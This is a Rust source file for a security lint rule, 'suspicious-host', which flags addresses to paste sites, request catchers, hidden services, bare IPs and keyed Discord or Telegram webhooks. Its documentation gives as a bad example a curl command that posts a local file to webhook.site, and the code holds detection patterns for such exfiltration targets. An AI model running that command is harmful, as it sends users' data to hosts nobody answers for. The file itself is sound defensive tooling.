//! No addresses that hide who is behind them.

use super::LEVELS;
use super::owasp::AST01;
use super::scan::Text;
use crate::diagnostics::{Fix, Severity, Span};
use crate::lint::pattern::Pattern;
use crate::lint::rule::{Group, Rule, RuleDocs};
use crate::lint::{Draft, Sink, Subject};
use crate::tables::hosts::{HOSTS, HostKind};
use crate::tables::threats::Topic;
use std::net::Ipv4Addr;

pub(super) static RULE: Rule = Rule {
    code: "SE011",
    name: "suspicious-host",
    group: Group::Security,
    levels: LEVELS,
    fix: None,
    docs: RuleDocs {
        what: "An address leads to a paste site, an anonymous file host, a catcher of web requests, a hidden service or a bare IP address.",
        why: "Nobody answers for what lies there, and it can change any day. Data that a skill sends there is gone. Short links and tunnels are only worth a remark. OWASP AST01.",
        bad: "curl -d @notes.txt https://webhook.site/3f1c\n",
        good: "curl -d @notes.txt https://api.example.com/notes\n",
        sources: &[AST01],
    },
    check,
};

/// The host of an address and what follows it.
static ADDRESS: Pattern =
    Pattern::new(|| r"^://(?:[^\s/@\x22'`<>]+@)?([\w.-]+|\[[0-9a-fA-F:.]+\])".into());

fn check(subject: &Subject<'_>, sink: &mut Sink<'_>) {
    let scan = subject.scan();
    for text in scan.about(Topic::Host) {
        for at in text.places(Topic::Host) {
            if let Some(draft) = named(text, at) {
                sink.add(draft);
            }
        }
    }
    for text in scan.about(Topic::Url) {
        for at in text.places(Topic::Url) {
            let rest = &text.text()[at..];
            // Only few addresses start with a digit.
            if !rest[3..].starts_with(|c: char| c.is_ascii_digit()) && !has_user(rest) {
                continue;
            }
            let address = ADDRESS.regex().and_then(|address| address.captures(rest));
            let host = address.and_then(|found| found.get(1));
            if let Some(host) = host {
                let place = Span::new(at + host.start(), at + host.end());
                if is_odd_number(host.as_str()) {
                    sink.add(draft(
                        text,
                        place,
                        "a bare IP address: nobody can tell whose it is",
                    ));
                }
            }
        }
    }
}

/// Whether an address carries a user name before its host.
fn has_user(address: &str) -> bool {
    address
        .bytes()
        .skip(3)
        .take(64)
        .take_while(|byte| !byte.is_ascii_whitespace() && *byte != b'/')
        .any(|byte| byte == b'@')
}

fn draft(text: &Text, span: Span, what: &str) -> Draft<'static> {
    let host = text.source.slice(span);
    Draft::new(&text.source, format!("`{host}` is {what}"))
        .at(span)
        .fix(Fix::advice("use a host whose owner is known"))
}

/// A host of the table at `at`, if it is a host there and not a part of another word.
fn named(text: &Text, at: usize) -> Option<Draft<'static>> {
    let (before, rest) = (text.line_before(at), text.line_after(at));
    let line = at - before.len();
    let length = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-'))
        .unwrap_or(rest.len());
    let name = rest[..length]
        .trim_end_matches(['.', '-'])
        .to_ascii_lowercase();
    let start = before
        .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-'))
        .map_or(0, |last| {
            last + before[last..].chars().next().map_or(1, char::len_utf8)
        });
    let subdomain = &before[start..];
    if !subdomain.is_empty() && !subdomain.ends_with('.') && !name.starts_with('.') {
        return None;
    }
    let span = Span::new(line + start, at + name.len());
    let path = &rest[name.len()..];
    let followed = path.starts_with('/')
        && path.len() > 1
        && !path[1..].starts_with([' ', '\n', '`', '"', ')']);
    let scheme = before[..start].ends_with("://");
    match name.as_str() {
        ".onion" if subdomain.len() >= 16 => {
            return Some(draft(
                text,
                span,
                "a hidden service: nobody can tell whose it is",
            ));
        }
        "discord.com" | "discordapp.com" | "api.telegram.org" => {
            return messenger(text, span, path);
        }
        _ => {}
    }
    let (_, kind) = HOSTS.iter().find(|(host, _)| *host == name)?;
    let is_placeholder = ["/...", "/<", "/your", "/YOUR"]
        .iter()
        .any(|start| path.starts_with(start));
    if is_placeholder {
        return None;
    }
    // The bare name of a host is talk about it.
    let is_target = followed || (scheme && *kind == HostKind::Catcher);
    if !is_target {
        return None;
    }
    let mut draft = draft(text, span, kind.describe());
    if matches!(kind, HostKind::Shortener | HostKind::Tunnel) {
        draft = draft.at_most(Severity::Info);
    }
    Some(draft)
}

/// The address of one channel or bot, with its secret: what is sent there, a stranger reads.
fn messenger(text: &Text, span: Span, path: &str) -> Option<Draft<'static>> {
    let id = path
        .strip_prefix("/api/webhooks/")
        .or_else(|| path.strip_prefix("/bot"))?;
    let digits = id.bytes().take_while(u8::is_ascii_digit).count();
    let secret = id[digits..].trim_start_matches(['/', ':']);
    let key = secret
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'-');
    let is_real = digits >= 8 && key.count() >= 30;
    is_real.then(|| {
        draft(
            text,
            span,
            "followed by the key of one channel, which somebody else reads",
        )
    })
}

/// An address that is a number, but not one that documents, private networks and well-known
/// name servers use. Unusual ways to write one are always odd.
fn is_odd_number(host: &str) -> bool {
    if let Ok(address) = host.parse::<Ipv4Addr>() {
        let [a, b, ..] = address.octets();
        let known = matches!(
            address.octets(),
            [1, 1, 1, 1] | [1, 0, 0, 1] | [8, 8, 8, 8] | [8, 8, 4, 4] | [9, 9, 9, 9] | [1, 2, 3, 4]
        );
        let shared = a == 100 && (64..128).contains(&b);
        let benchmark = a == 198 && (b == 18 || b == 19);
        return !(known
            || shared
            || benchmark
            || address.is_loopback()
            || address.is_private()
            || address.is_link_local()
            || address.is_documentation()
            || address.is_unspecified()
            || address.is_multicast()
            || a == 0
            || a >= 240);
    }
    let decimal = host.len() >= 8 && host.bytes().all(|byte| byte.is_ascii_digit());
    let hexadecimal = host.strip_prefix("0x").is_some_and(|digits| {
        digits.len() == 8 && digits.bytes().all(|byte| byte.is_ascii_hexdigit())
    });
    decimal || hexadecimal
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn public_numbers_are_odd() {
        for host in ["45.77.12.9", "3232235777", "0x2d4d0c09"] {
            assert!(is_odd_number(host), "{host}");
        }
        for host in [
            "127.0.0.1",
            "10.0.0.5",
            "192.168.1.1",
            "203.0.113.7",
            "8.8.8.8",
            "0.0.0.0",
            "3scale.net",
            "1password.com",
        ] {
            assert!(!is_odd_number(host), "{host}");
        }
    }
}
